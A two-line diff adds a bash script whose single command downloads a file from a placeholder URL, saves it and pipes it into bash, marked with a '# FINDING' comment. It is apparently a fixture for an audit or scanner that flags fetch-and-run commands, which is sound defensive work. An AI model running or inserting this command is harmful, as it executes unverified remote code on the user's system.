@@ -1,0 +1,2 @@
+#!/bin/bash
+curl https://example.com/x | tee x.sh | bash  # FINDING
